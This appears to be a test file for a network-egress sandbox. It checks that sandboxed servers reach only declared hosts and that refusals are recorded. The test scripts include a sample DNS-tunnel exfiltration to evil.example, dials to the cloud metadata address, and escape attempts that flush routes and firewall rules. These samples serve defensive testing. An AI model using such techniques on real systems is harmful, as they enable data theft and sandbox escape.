import assert from 'node:assert/strict'
import { existsSync, readFileSync } from 'node:fs'
import test from 'node:test'
import { areGone } from '../fixtures/alive.ts'
import { proves } from '../guide/proves.ts'
import { listener, playScene } from './egress/scene.ts'
import { people, skip, survivors } from './sandbox/play.ts'

const fetching = (url: string) =>
  `fetch(${JSON.stringify(url)}).then(async r=>console.log('got',await r.text()),e=>console.log('failed',e.cause?.code))`

function parentOf(pid: number): number {
  return Number(/^PPid:\s+(\d+)/mu.exec(readFileSync(`/proc/${pid}/status`, 'utf8'))?.[1])
}

/** Four clients that know nothing of us. */
const clients: Readonly<Record<string, (url: string) => readonly string[]>> = {
  'the Node of the system': url => ['/usr/bin/node', '-e', fetching(url)],
  'the Node of the gateway': url => [process.execPath, '-e', fetching(url)],
  'Python urllib': url => [
    '/usr/bin/python3',
    '-c',
    `import urllib.request as u\ntry: print('got',u.urlopen('${url}').read().decode())\nexcept Exception as e: print('failed',e)`,
  ],
  curl: url => ['/usr/bin/curl', '-sS', '--max-time', '5', '-w', '\\n', url],
}

for (const person of people) {
  for (const [client, asking] of Object.entries(clients)) {
    const [program = ''] = asking('')
    test(`${person.name}: ${client} reaches a declared host, and is seen and refused elsewhere`, {
      ...proves('T4.isolate', 'T4.monitor', 'C3.network', 'C4.traffic'),
      skip: skip || (!existsSync(program) && `${program} is not here`),
    }, async t => {
      const { port, asked } = await listener(t)
      const hosts = [`allowed.example:${port}`]
      const scene = playScene(t, person, {
        servers: [
          { name: 'good', command: asking(`http://allowed.example:${port}/`), hosts },
          { name: 'bad', command: asking(`http://denied.example:${port}/`), hosts },
        ],
        names: { 'allowed.example': ['127.0.0.1'], 'denied.example': ['127.0.0.1'] },
        privateNames: ['allowed.example', 'denied.example'],
      })
      await scene.ended()
      assert.match(scene.said('good').join(), /hello allowed\.example/u)
      assert.doesNotMatch(scene.said('bad').join(), /hello/u)
      assert.deepEqual(asked, [`allowed.example:${port}`])
      const dials = scene.seen('dial').map(({ server, host, port, verdict }) => [server, host, port, verdict])
      assert.deepEqual(dials.toSorted(), [
        ['bad', 'denied.example', port, 'refuse'],
        ['good', 'allowed.example', port, 'allow'],
      ])
      assert.deepEqual(
        scene
          .seen('name')
          .map(({ host, verdict }) => [host, verdict])
          .toSorted(),
        [
          ['allowed.example', 'allow'],
          ['denied.example', 'refuse'],
        ],
      )
    })
  }

  test(`${person.name}: every way out that is not a declared name is refused at once and recorded once`, {
    skip,
    ...proves('S1.detect', 'T4.monitor'),
  }, async t => {
    const { port, asked } = await listener(t)
    const attack = `
      const net = require('node:net'), dgram = require('node:dgram'), dns = require('node:dns').promises
      const dial = (host, port, label = host) => new Promise(done => {
        const socket = net.connect({ host, port, autoSelectFamily: false })
        socket.on('error', e => { console.log(JSON.stringify({ label, port, code: e.code })); done() })
        socket.on('data', d => { console.log(JSON.stringify({ label, port, got: String(d) })); done() })
        socket.on('connect', () => socket.write('GET / HTTP/1.0\\r\\n\\r\\n'))
      })
      const send = (kind, host) => new Promise(done => {
        const socket = dgram.createSocket(kind)
        socket.on('error', () => done())
        socket.send('x', 4433, host, () => setTimeout(() => socket.close(done), 50))
      })
      const main = async () => {
        for (const [host, to] of [['127.0.0.1', ${port}], ['93.184.216.34', ${port}], ['169.254.169.254', 80], ['10.0.0.1', 22], ['2606:4700::1', 443], ['::1', ${port}], ['::ffff:127.0.0.1', ${port}]]) await dial(host, to)
        await dial('allowed.example', ${port} + 1)
        for (const name of ['inside.example', 'cloud.example', 'private.example']) await dial(name, 443)
        const label = Buffer.from('the secret of the house').toString('hex')
        console.log(JSON.stringify({ label: 'tunnel', code: await dns.resolveTxt(label + '.evil.example').catch(e => e.code) }))
        await send('udp4', '93.184.216.34')
        await send('udp6', '2606:4700::1')
        await new Promise(done => setTimeout(done, 400))
      }
      main()`
    const scene = playScene(t, person, {
      servers: [
        {
          name: 'attacker',
          command: ['/usr/bin/node', '-e', attack],
          hosts: [`allowed.example:${port}`, 'inside.example:443', 'cloud.example:443', 'private.example:443'],
        },
      ],
      names: {
        'allowed.example': ['127.0.0.1'],
        'inside.example': ['127.0.0.1'],
        'cloud.example': ['169.254.169.254'],
        'private.example': ['93.184.216.34', '192.168.0.1'],
      },
    })
    await scene.ended()
    assert.deepEqual(asked, [])
    const tries = scene.said('attacker').map(line => JSON.parse(line))
    assert.deepEqual(
      tries.filter(({ got }) => got !== undefined),
      [],
    )
    assert.equal(tries.length, 12)
    const dials = scene.seen('dial')
    assert.ok(dials.every(({ verdict }) => verdict === 'refuse'))
    assert.deepEqual(
      dials.map(({ host, port, reason }) => [host, port, reason]),
      [
        ['127.0.0.1', port, 'address-not-declared'],
        ['93.184.216.34', port, 'address-not-declared'],
        ['169.254.169.254', 80, 'address-not-declared'],
        ['10.0.0.1', 22, 'address-not-declared'],
        ['2606:4700::1', 443, 'address-not-declared'],
        ['::1', port, 'address-not-declared'],
        ['127.0.0.1', port, 'address-not-declared'],
        ['allowed.example', port + 1, 'port-not-declared'],
        ['inside.example', 443, 'address-refused'],
        ['cloud.example', 443, 'address-refused'],
        ['private.example', 443, 'address-refused'],
      ],
    )
    const tunnel = scene.seen('name').find(({ host }) => host?.endsWith('evil.example'))
    assert.equal(tunnel?.['severity'], 'high')
    assert.deepEqual(
      scene.seen('datagram').map(({ host, port }) => [host, port]),
      [
        ['93.184.216.34', 4433],
        ['2606:4700::1', 4433],
      ],
    )
  })

  test(`${person.name}: a denied dial is answered within five milliseconds`, { skip }, async t => {
    const code = `
      const net = require('node:net')
      const dial = () => new Promise(done => {
        let up = performance.now()
        const socket = net.connect(443, '93.184.216.34', () => { up = performance.now() })
        socket.on('error', () => { console.log(performance.now() - up); done() })
      })
      const main = async () => { for (let i = 0; i < 40; i++) await dial() }
      main()`
    const servers = [{ name: 'a', command: ['/usr/bin/node', '-e', code], hosts: ['a.example:443'] }]
    const scene = playScene(t, person, { servers })
    await scene.ended()
    const waits = scene
      .said('a')
      .map(Number)
      .toSorted((a, b) => a - b)
    assert.equal(waits.length, 40)
    t.diagnostic(`best ${waits[0]} ms, median ${waits[20]} ms, worst ${waits[39]} ms`)
    // The best, because the machine may be busy with anything else: the way itself must not hold a wait.
    assert.ok((waits[0] ?? 99) <= 5, String(waits))
  })

  test(`${person.name}: a server can neither change its room nor use that of another`, { skip }, async t => {
    const { port, asked } = await listener(t)
    const tools = `
      const { spawnSync } = require('node:child_process'), fs = require('node:fs'), net = require('node:net')
      for (const argv of [['ip', 'route', 'flush', 'table', 'all'], ['nft', 'flush', 'ruleset'], ['unshare', '-Urn', 'true']])
        console.log(argv[0], spawnSync('/usr/sbin/' + argv[0], argv.slice(1)).status ?? spawnSync('/usr/bin/' + argv[0], argv.slice(1)).status)
      try { fs.writeFileSync('/proc/sys/net/ipv4/ip_forward', '1'); console.log('sysctl written') } catch (e) { console.log('sysctl', e.code) }
      const taken = net.createServer().on('error', e => console.log('bind', e.code)).listen(20000, '0.0.0.0', () => console.log('bind ok'))
      const socket = net.connect(${port}, 'allowed.example', () => socket.write('GET / HTTP/1.1\\r\\nHost: allowed.example:${port}\\r\\n\\r\\n'))
      socket.on('error', e => { console.log('dial', e.code); process.exit() })
      socket.on('data', () => { console.log('dial ok'); process.exit() })`
    const hosts = (name: string) => [`${name}:${port}`]
    const scene = playScene(t, person, {
      servers: [
        { name: 'owner', command: ['/usr/bin/node', '-e', 'setTimeout(()=>{},3000)'], hosts: hosts('allowed.example') },
        { name: 'thief', command: ['/usr/bin/node', '-e', tools], hosts: hosts('other.example') },
      ],
      names: { 'allowed.example': ['127.0.0.1'], 'other.example': ['127.0.0.1'] },
      privateNames: ['allowed.example', 'other.example'],
    })
    await scene.ended()
    const said = scene.said('thief').join('\n')
    assert.doesNotMatch(said, /^(ip|nft|unshare) 0$/mu)
    assert.match(said, /^sysctl E(ROFS|ACCES|PERM|NOENT)$/mu)
    assert.match(said, /^bind EADDRINUSE$/mu)
    assert.match(said, /^dial ECONNRESET$/mu)
    assert.deepEqual(asked, [])
    assert.deepEqual(
      scene.seen('dial').map(({ server, verdict }) => [server, verdict]),
      [['thief', 'refuse']],
    )
  })

  test(`${person.name}: a gateway that is killed leaves no room, no porter and no server`, { skip }, async t => {
    const marker = `room-test-${process.pid}-${person.uid}`
    const waiting = ['/usr/bin/node', '-e', `setInterval(()=>{},1000);console.log('up')//${marker}`]
    const servers = [{ name: 'a', command: waiting, hosts: ['a.example:443'] }]
    const scene = playScene(t, person, { servers })
    await scene.until(() => scene.said('a').includes('up'))
    const room = scene.lines.find(({ enter }) => enter !== undefined)?.['enter']
    const found = survivors(marker).filter(pid => pid !== scene.process.pid)
    assert.ok(found.length > 0)
    // The last of them is the server itself; before it stand the programs that made its sandbox.
    const owner = /^Uid:\s+(\d+)/mu.exec(readFileSync(`/proc/${found.at(-1)}/status`, 'utf8'))?.[1]
    if (person.uid === 0) assert.notEqual(owner, '0', 'a server with hosts is somebody else to the machine, too')
    scene.process.kill('SIGKILL')
    assert.ok(await areGone([...found, String(room)], 1000))
  })

  test(`${person.name}: without its porter a server is cut off, not let out`, { skip }, async t => {
    const { port, asked } = await listener(t)
    const code = `
      const net = require('node:net')
      const dial = () => { const s = net.connect(${port}, '127.0.0.1', () => { s.write('GET / HTTP/1.1\\r\\nHost: a\\r\\n\\r\\n') }); s.on('error', e => console.log(e.code)); s.on('data', () => console.log('through')) }
      setInterval(dial, 50)`
    const servers = [{ name: 'a', command: ['/usr/bin/node', '-e', code], hosts: ['a.example:443'] }]
    const scene = playScene(t, person, { servers })
    await scene.until(() => scene.said('a').includes('ECONNRESET'))
    const porters = survivors('egress/porter.ts').filter(pid => parentOf(pid) === scene.process.pid)
    assert.equal(porters.length, 1)
    process.kill(porters[0] ?? 0, 'SIGKILL')
    await scene.until(() => scene.said('a').includes('ECONNREFUSED'))
    assert.ok(!scene.said('a').includes('through'))
    assert.deepEqual(asked, [])
    assert.equal(scene.seen('room')[0]?.['severity'], 'high')
  })

  test(`${person.name}: a porter that is stopped lets nothing through, and is set going again`, {
    skip,
    timeout: 60_000,
  }, async t => {
    const { port, asked } = await listener(t)
    const code = `
      const net = require('node:net')
      const dial = () => { const s = net.connect(${port}, '127.0.0.1', () => { s.write('GET / HTTP/1.1\\r\\nHost: a\\r\\n\\r\\n') }); s.on('error', e => console.log(e.code)); s.on('data', () => console.log('through')) }
      console.log('up'); process.on('SIGTERM', () => {}); setInterval(dial, 100)`
    const servers = [{ name: 'a', command: ['/usr/bin/node', '-e', code], hosts: ['a.example:443'] }]
    const scene = playScene(t, person, { servers })
    await scene.until(() => scene.said('a').includes('ECONNRESET'))
    const [porter = 0] = survivors('egress/porter.ts').filter(pid => parentOf(pid) === scene.process.pid)
    process.kill(porter, 'SIGSTOP')
    await new Promise(resolve => setTimeout(resolve, 500))
    const before = scene.said('a').length
    await scene.until(() => scene.seen('room').length > 0)
    assert.match(String(scene.seen('room')[0]?.['why']), /told to go on/u)
    await scene.until(() => scene.said('a').length > before)
    assert.ok(!scene.said('a').includes('through'))
    assert.deepEqual(asked, [])
  })
}
